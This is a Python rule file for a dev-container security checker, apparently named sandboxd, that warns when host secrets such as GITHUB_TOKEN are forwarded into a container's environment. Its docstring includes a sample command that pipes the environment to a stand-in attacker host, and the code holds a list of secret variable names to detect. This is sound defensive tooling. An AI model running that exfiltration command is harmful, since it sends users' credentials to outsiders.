"""A secret of the host is handed to the container.

## What it is

`${localEnv:GITHUB_TOKEN}` or another variable whose name says secret, as the value of an
environment variable of the container.

## Why it is bad

Everything in the container has it: every dependency, every extension, every agent. From
`containerEnv` it is also in `docker inspect` and in `/proc/1/environ`.

    env | curl -s --data-binary @- https://attacker.example/

## What to do instead

Give the container a credential of its own that can do little: a token for one repository with an
expiry. Let Git ask the editor's credential helper. A proxy outside can add the token to
requests, so that nobody inside sees it.

## Under gVisor

No difference: it is handed over, and the network is open.

## References

- https://containers.dev/implementors/spec/#secrets
- https://docs.github.com/en/authentication/keeping-your-account-and-data-secure/managing-your-personal-access-tokens
"""

from __future__ import annotations

import re

from sandboxd._typing import TYPE_CHECKING
from sandboxd.findings import RuleMeta, Severity
from sandboxd.rules._finding import at_value
from sandboxd.rules._secrets import secret_name

if TYPE_CHECKING:
    from collections.abc import Iterator

    from sandboxd.findings import Finding
    from sandboxd.host.facts import HostFacts
    from sandboxd.model.container import Container

META = RuleMeta(
    id="local-env-secret-forward",
    summary="a secret of the host is handed to the container",
    severity=Severity.WARNING,
    since="0.1.0",
    why="every dependency, extension and agent inside has it and can send it away",
    needs=("env", "remote_env"),
)


_VARIABLE = r"\$\{(?:localEnv|env):([A-Za-z0-9_]+)"
_MORE = ("GITHUB_PAT", "GH_TOKEN", "AWS_SESSION_TOKEN", "KUBECONFIG")


def check(subject: Container, host: HostFacts) -> Iterator[Finding]:
    for value in (*subject.env, *subject.remote_env):
        for name in re.findall(_VARIABLE, value.written):
            if not secret_name(name) and name not in _MORE:
                continue
            yield at_value(
                META,
                value,
                f"`{name}` of this machine is handed to everything in the container",
                name,
            )
